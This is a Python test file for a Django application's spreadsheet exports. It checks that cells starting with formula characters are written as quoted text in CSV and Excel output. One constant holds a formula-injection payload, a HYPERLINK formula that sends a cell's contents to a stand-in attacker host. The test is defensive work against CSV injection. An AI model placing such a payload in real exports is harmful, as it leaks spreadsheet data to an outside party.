"""One writer for every export: text a spreadsheet would run as a formula comes out as text."""
import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from compliance.dashboards.exports import csv_response
from organisation.spreadsheets import safe_cell
from returns.export import annex_a_workbook
from tests.factories import ChildFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_written_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Sam Worker", "a=b", "", 5, -3, 2.5, datetime.date(2026, 1, 1)])
def test_other_values_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_a_missing_value_is_a_blank_cell():
    assert safe_cell(None) == ""


def test_the_access_log_csv_holds_a_formula_like_username_as_text(client, administrator, team_manager, child):
    team_manager.username = HOSTILE
    team_manager.save()
    client.force_login(team_manager)
    client.get(reverse("child", args=[child.pk]))
    client.force_login(administrator)
    response = client.get(reverse("traceability:access_log"), {"user": HOSTILE, "format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][2] == "'" + HOSTILE


def test_the_annex_a_workbook_holds_a_formula_like_identifier_as_text(social_worker):
    ChildFactory(local_id="=HYPERLINK(1)", worker=social_worker, opened_on=datetime.date(2026, 1, 5))
    out = io.BytesIO()
    annex_a_workbook(datetime.date(2026, 3, 31)).save(out)
    book = load_workbook(io.BytesIO(out.getvalue()))
    cells = [row[0] for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) if row[0].value]
    assert cells and all(c.value == "'=HYPERLINK(1)" and c.data_type == "s" for c in cells)


def test_a_dashboard_csv_holds_formula_like_text_as_text():
    response = csv_response("x", ["Child"], [["@SUM(A1)"], [None]])
    assert response.content.decode().splitlines() == ["Child", "'@SUM(A1)", '""']
